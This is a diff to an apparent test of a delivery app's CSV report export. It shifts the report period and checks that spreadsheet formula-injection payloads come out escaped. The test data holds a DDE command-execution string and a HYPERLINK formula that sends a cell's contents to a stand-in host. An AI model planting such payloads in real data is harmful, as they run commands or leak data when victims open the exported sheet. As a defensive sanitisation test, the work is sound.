@@ -168,9 +168,11 @@ describe("an export", () => {
     await evil.api.vendors.update({ vendorId: evil.vendorId, businessName });
     const driver = await people.aDriver(evil);
     await evil.api.drivers.update({ driverId: driver.driverId, fullName: "@SUM(1+1)*cmd|' /C calc'!A0" });
+    // Long after the period of the other tests: an administrator's figures hold everybody's.
+    app.time.advance(2 * DAY);
+    const from = iso(0);
     await deliver(evil, driver, MINUTE);
-    const to = iso(MINUTE);
-    const { content } = await evil.api.reports.export({ from: period.from, to });
+    const { content } = await evil.api.reports.export({ from, to: iso(MINUTE) });
     const row = content.split("\r\n")[1] ?? "";
     expect(row).toContain(
       `,"'=HYPERLINK(""http://example.test/?""&A1,""open"")",'@SUM(1+1)*cmd|' /C calc'!A0,`,
